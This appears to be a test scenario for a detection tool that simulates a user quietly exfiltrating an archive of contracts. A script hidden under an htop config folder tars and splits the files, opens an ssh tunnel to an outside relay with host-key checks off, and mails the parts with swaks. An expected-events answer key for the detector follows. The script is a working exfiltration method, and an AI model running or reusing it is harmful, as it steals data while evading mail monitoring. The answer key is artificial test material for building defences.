title="Scripted mail through an ssh tunnel to a relay elsewhere"
what="A nohup job of clerk opens ssh -L to an outside host, then swaks sends four parts of an archive to the tunnel's local end; no MTA of this host sees any of it. Exit status read, tunnel closed."
user=clerk daemons="cron sshd"
setup() {
  outside_sshd; documents
  own_file /home/clerk/.config/htop/h.sh 755 <<'P'
#!/bin/bash
cd ~/.config/htop
tar cJf c.bin ~/contracts; split -b 4k c.bin p.
ssh -i ~/.ssh/id_out -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -f -L 10025:203.0.113.10:25 root@203.0.113.67 sleep 14
sleep 1
for f in p.*; do swaks --silent 3 --server 127.0.0.1:10025 --from c@example.net --to k@example.net --header "Subject: part $f" --attach @$f; done
rm -f c.bin p.*
P
}
act() {
  small_talk 2
  ssh_as clerk <<'L'
vi -c q notes.txt
nohup ~/.config/htop/h.sh >/dev/null 2>&1 &
%sleep 10
L
  sleep 4; small_talk 1
}
truth() {
  exec_step pack 'tar cJf c.bin' 'packed'
  exec_step tunnel 'ssh .*-L 10025:203.0.113.10:25' 'a tunnel'
  net_step ssh 'ssh 203.0.113.67:2222' 'outside'
  net_step send 'perl 127.0.0.1:10025' 'mail goes through it'
}
